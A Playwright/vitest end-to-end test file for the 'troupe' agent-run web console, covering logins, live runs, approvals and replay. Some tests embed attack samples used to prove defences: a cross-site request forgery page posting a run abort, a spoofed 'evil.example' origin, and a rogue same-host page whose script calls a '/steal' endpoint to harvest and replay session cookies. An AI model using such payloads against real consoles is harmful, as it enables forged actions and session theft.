import { existsSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { hostname } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { expect, inject, it } from "vitest";
import { NatsBus } from "../../src/bus/nats-bus.js";
import { writeSyntheticRun } from "../../src/testing/synthetic-run.js";
import { chromiumPerFile } from "../support/browser.js";
import { runTroupe, tempTree } from "../support/cli.js";
import { consoleDaemons } from "../support/console-daemon.js";
import { daemonProcesses } from "../support/daemon-process.js";
import { waitFor } from "../support/wait.js";

const { cleanups, follow } = daemonProcesses();
const browser = chromiumPerFile();

/** The session a login left in the page's storage. */
const sessionOf = (page: Page) => page.evaluate<string | null>('localStorage.getItem("troupe-session")');

const consoleDaemon = consoleDaemons({ cleanups, follow });

it("shows a run live on the default embedded, credentialed server: its tree, states and statechart; an approval allowed from the page lets it go on, once", async () => {
  const { dir, env, login, origin, config } = await consoleDaemon(undefined, { embedded: true });
  // Without a login, nothing of the runs is served: the API, the live streams.
  for (const path of ["/api/runs/live", "/api/machine", "/api/runs/run-1/events", "/api/whoami"])
    expect((await fetch(origin + path)).status, path).toBe(401);

  const page = await browser().newPage();
  await page.goto(origin);
  await page.getByTestId("logged-out").waitFor({ timeout: 5000 });
  await page.goto(login);
  // The login's URL, its token used up, is gone from the address bar.
  expect(page.url()).toBe(`${origin}/`);
  await page.getByText("No runs yet").waitFor({ timeout: 5000 });
  // The login link was good once.
  expect((await fetch(login, { redirect: "manual" })).status).toBe(401);

  const client = follow(
    [...config, "run", "--json", "--approval", "ask", "Read the notes, then write"],
    dir,
    env,
  );
  await waitFor("the run to start", () => client.stdout().includes('"agent.started"'), 15_000);
  // It appears on the page, pushed: within a second of its start.
  const row = page.locator('[data-testid="run-row"]');
  await row.first().waitFor({ timeout: 1000 });
  await row.first().locator("a").click();

  // The tree: the lead and its two scouts, their states changing as they work.
  const scouts = page.locator('[data-testid="agent"][data-agent="scout"]');
  await expect.poll(() => scouts.count(), { timeout: 10_000 }).toBe(2);
  const seen = new Set<string>();
  await expect
    .poll(
      async () => {
        for (const state of await scouts.evaluateAll((nodes) =>
          nodes.map((n) => n.getAttribute("data-state")),
        ))
          if (state) seen.add(state);
        return seen.has("callingModel") && seen.has("stopped");
      },
      { timeout: 15_000, interval: 50 },
    )
    .toBe(true);

  // The approval: shown on the page as `troupe approvals` lists it.
  const approval = page.locator('[data-testid="approval"][data-status="pending"]');
  await approval.waitFor({ timeout: 15_000 });
  const callId = (await approval.getAttribute("data-call")) as string;
  const listed = await runTroupe([...config, "approvals"], { cwd: dir, env });
  expect(listed.stdout).toContain(callId);
  expect(existsSync(join(dir, "out.txt"))).toBe(false);

  // The lead waits on it: the statechart lights the state the tree shows.
  await page.locator('[data-testid="agent"][data-agent="lead"]').click();
  const lit = page.locator('[data-testid="statechart"] [data-current="true"]');
  await expect.poll(() => lit.getAttribute("data-state"), { timeout: 5000 }).toBe("awaitingApproval");
  expect(await page.locator('[data-testid="agent"][data-agent="lead"]').getAttribute("data-state")).toBe(
    "awaitingApproval",
  );

  await approval.getByTestId("allow").click();
  expect(await client.exit).toBe(0);
  expect(readFileSync(join(dir, "out.txt"), "utf8")).toBe("written once\n");
  const events = client
    .stdout()
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { type: string; data: { approved?: boolean; by?: string } });
  const decided = events.filter((e) => e.type === "approval.decided");
  expect(decided).toHaveLength(1);
  expect(decided[0]?.data).toMatchObject({ approved: true, by: "root (web)" });
  expect(
    events.filter((e) => e.type === "tool.started" && (e.data as { name?: string }).name === "write_file"),
  ).toHaveLength(1);
  expect((await runTroupe([...config, "approvals"], { cwd: dir, env })).stdout).not.toContain(callId);
  await page
    .locator('[data-testid="decided"]')
    .getByText("approved by root (web)")
    .waitFor({ timeout: 5000 });
  await page.locator('[data-testid="run-status"]').getByText("done").waitFor({ timeout: 5000 });

  // A stopped run replays: at its first event only the lead is there; at its last, all three again.
  const replay = page.getByTestId("replay");
  // A range input can't be filled: set as a person's drag would, with an input event (in the page).
  const moveTo = (value: number) =>
    page.evaluate(`{
      const input = document.querySelector('[data-testid="replay"]');
      input.value = "${value}";
      input.dispatchEvent(new Event("input", { bubbles: true }));
    }`);
  const end = Number(await replay.getAttribute("max"));
  await moveTo(1);
  await expect.poll(() => page.getByTestId("agent").count()).toBe(1);
  expect(await page.getByTestId("agent").getAttribute("data-state")).toBe("idle");
  await moveTo(end);
  await expect.poll(() => page.getByTestId("agent").count()).toBe(3);
  await page.close();
}, 90_000);

it("keeps a page of a run of 10,000 events small: a conversation draws its latest items only", async () => {
  const { origin, login, prefix } = await consoleDaemon();
  const bus = await NatsBus.connect({ url: inject("natsUrl"), prefix });
  cleanups.push(() => bus.close());
  const runId = "run-01m8v4z12jkgqwesm1zvzjva5b";
  const written = await writeSyntheticRun(bus, { runId, agents: 20, deltas: 450 });
  expect(written).toBeGreaterThan(10_000);
  const page = await browser().newPage();
  await page.goto(login);
  await page.goto(`${origin}/#/runs/${runId}`);
  await page.getByText(`${written} / ${written} events`).waitFor({ timeout: 60_000 });
  expect(await page.getByTestId("agent").count()).toBe(20);
  // The lead's task, 450 pieces of text, 450 calls and its end: of its 902 items, the latest 200 are drawn.
  expect(await page.locator(".conversation > li").count()).toBe(201);
  await page.getByText("702 earlier items").waitFor();
  expect(await page.locator("*").count()).toBeLessThan(4000);
  await page.close();
}, 90_000);

it("refuses a POST from another site, and one with no session", async () => {
  const { dir, env, login, origin, config } = await consoleDaemon();
  const context = await browser().newContext();
  const page = await context.newPage();
  await page.goto(login);
  const client = follow(
    [...config, "run", "--json", "--approval", "ask", "Read the notes, then write"],
    dir,
    env,
  );
  await waitFor("the approval request", () => client.stdout().includes('"approval.requested"'), 20_000);
  const runId = (JSON.parse(client.stdout().split("\n")[0] as string) as { runId: string }).runId;

  // Another site's page, opened in the same browser as the console's, posts an abort
  // as a form can (text/plain) and as a script can (no-cors).
  const attacker = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<form id=f method=POST action="${origin}/api/runs/${runId}/abort" enctype="text/plain"><input name='{"reason":"x","a":"' value='"}'></form>
      <script>fetch("${origin}/api/runs/${runId}/abort", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).finally(() => document.getElementById("f").submit());</script>`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.2", resolve));
  cleanups.push(() => new Promise<void>((resolve) => attacker.close(() => resolve())));
  const attackerPage = await context.newPage();
  const responses: number[] = [];
  attackerPage.on("response", (response) => {
    if (response.url().includes("/abort")) responses.push(response.status());
  });
  await attackerPage.goto(`http://127.0.0.2:${(attacker.address() as AddressInfo).port}/`);
  await expect.poll(() => responses.length, { timeout: 5000 }).toBeGreaterThanOrEqual(1);
  for (const status of responses) expect([401, 403]).toContain(status);

  // With the session itself but from another origin, or not as JSON: refused all the same.
  const session = await sessionOf(page);
  const authorization = `Bearer ${session}`;
  const abort = (headers: Record<string, string>, run = runId) =>
    fetch(`${origin}/api/runs/${run}/abort`, {
      method: "POST",
      headers: { authorization, ...headers },
      body: "{}",
    });
  const json = { "content-type": "application/json" };
  expect((await abort({ ...json, origin: "http://evil.example" })).status).toBe(403);
  expect((await abort({ "content-type": "text/plain" })).status).toBe(403);
  expect((await abort({ ...json, "sec-fetch-site": "cross-site" })).status).toBe(403);

  // A run id that is a wildcard names no run, nor do its approvals list every run's.
  for (const run of ["*", "%3E", `${runId}.x`]) {
    expect((await abort(json, run)).status, run).toBe(404);
    expect((await fetch(`${origin}/api/runs/${run}/approvals`, { headers: { authorization } })).status).toBe(
      404,
    );
  }

  // The run was not aborted: it still waits, and goes on once allowed, from a terminal; the page open
  // on it shows the approval decided there, and by whom.
  await page.goto(`${origin}/#/runs/${runId}`);
  await page.locator('[data-testid="approval"][data-status="pending"]').waitFor({ timeout: 10_000 });
  const answer = await runTroupe([...config, "approve", "--allow"], { cwd: dir, env });
  expect(answer.code, answer.stderr).toBe(0);
  await page.getByTestId("decided").getByText("approved by root").waitFor({ timeout: 10_000 });
  expect(await page.getByTestId("allow").count()).toBe(0);
  expect(await client.exit).toBe(0);
  expect(client.stdout()).toContain('"reason":"done"');
  await context.close();
}, 90_000);

it("gives a server on another port of the console's host, opened in the same browser, nothing that works on the console", async () => {
  const { login, origin } = await consoleDaemon();
  const context = await browser().newContext();
  const page = await context.newPage();
  await page.goto(login);
  await page.getByText("No runs yet").waitFor({ timeout: 5000 });
  const session = await sessionOf(page);
  expect(session).toBeTruthy();

  // Another user's server on the same 127.0.0.1 (same site, another origin): what the browser
  // sends it, on the page's load and on the page's own requests, is what it could use.
  const received: Array<Record<string, string | string[] | undefined>> = [];
  const attacker = createServer((request, response) => {
    received.push(request.headers);
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<img src="/img"><script>fetch("/steal", { credentials: "include" })</script>`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  cleanups.push(() => new Promise<void>((resolve) => attacker.close(() => resolve())));
  const attackerPage = await context.newPage();
  const stolen = new URL(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/steal`).href;
  const asked = attackerPage.waitForRequest(stolen);
  await attackerPage.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
  await asked;
  await expect.poll(() => received.length, { timeout: 5000 }).toBeGreaterThanOrEqual(3);
  expect(JSON.stringify(received)).not.toContain(session);
  // Whatever cookies it got, replayed as they came and as a Bearer, open nothing.
  for (const cookie of received.map((headers) => headers.cookie).filter((c) => c !== undefined)) {
    const value = String(cookie).split("=").slice(1).join("=");
    const replays: Array<Record<string, string>> = [
      { cookie: String(cookie) },
      { authorization: `Bearer ${value}` },
    ];
    for (const headers of replays)
      expect((await fetch(`${origin}/api/whoami`, { headers })).status).toBe(401);
  }
  await context.close();
}, 60_000);

it("prints a fresh login with troupe web, each good once, and says so in one line when no console runs", async () => {
  const { dir, env, origin, config } = await consoleDaemon();
  const first = await runTroupe([...config, "web"], { cwd: dir, env });
  expect(first.code).toBe(0);
  const url = first.stdout.trim();
  expect(url.startsWith(`${origin}/login?token=`)).toBe(true);
  // The login answers with the page, the session in it (no cookie); a script sends it as a Bearer.
  const used = await fetch(url);
  expect(used.status).toBe(200);
  expect(used.headers.get("set-cookie")).toBeNull();
  const session = /<meta name="troupe-session" content="([^"]+)"/.exec(await used.text())?.[1];
  const whoami = await fetch(`${origin}/api/whoami`, { headers: { authorization: `Bearer ${session}` } });
  expect(await whoami.json()).toEqual({ name: expect.any(String) });
  const again = await fetch(url);
  expect(again.status).toBe(401);
  // A page a person can read, not JSON.
  expect(again.headers.get("content-type")).toBe("text/html; charset=utf-8");
  expect(await again.text()).toContain("Run <code>troupe web</code> on the daemon's machine for a new one.");
  const second = (await runTroupe([...config, "web"], { cwd: dir, env })).stdout.trim();
  expect(second).not.toBe(url);
  expect((await fetch(second)).status).toBe(200);

  const { dir: other, dispose } = tempTree({ "config/troupe.yaml": "defaultModel: scripted\n" });
  cleanups.push(dispose);
  const none = await runTroupe(["--config", join(other, "config"), "web"], {
    cwd: other,
    env: { ...env, TROUPE_DATA_DIR: join(other, ".data") },
  });
  expect(none.code).toBe(1);
  expect(none.stderr.trim().split("\n")).toHaveLength(1);
  expect(none.stderr).toMatch(/no web console is running for this data dir .*troupe daemon --web/);
});

it("warns in one line when the console listens beyond loopback, where logins cross the network in the clear", async () => {
  const open = await consoleDaemon({ flag: "0.0.0.0:0" });
  await waitFor("the warning", () => open.stderr().includes("warning: web console"), 10_000);
  expect(open.stderr()).toMatch(
    new RegExp(
      String.raw`^troupe: warning: web console: served over plain HTTP on http://${hostname()}:\d+: logins and sessions cross the network in the clear; .*$`,
      "m",
    ),
  );
  const local = await consoleDaemon();
  await waitFor("the open-bus warning", () => local.stderr().includes("warning: bus"), 10_000);
  expect(local.stderr()).not.toContain("warning: web console");
});

it("serves the console as troupe.yaml's web: says, and refuses a listen that is not HOST:PORT in one line", async () => {
  const { login } = await consoleDaemon({ yaml: "web:\n  listen: 127.0.0.1:0\n" });
  expect((await fetch(login)).status).toBe(200);

  const { dir, dispose } = tempTree({
    "config/troupe.yaml": "defaultModel: scripted\nweb:\n  listen: everywhere\n",
    "config/agents/a.yaml": "name: a\ndescription: A.\n",
  });
  cleanups.push(dispose);
  const refused = await runTroupe(["--config", join(dir, "config"), "daemon"], { cwd: dir });
  expect(refused.code).toBe(2);
  expect(refused.stderr.trim().split("\n")).toHaveLength(1);
  expect(refused.stderr).toMatch(/troupe\.yaml:3:11: .*web\.listen.*HOST:PORT/);
});
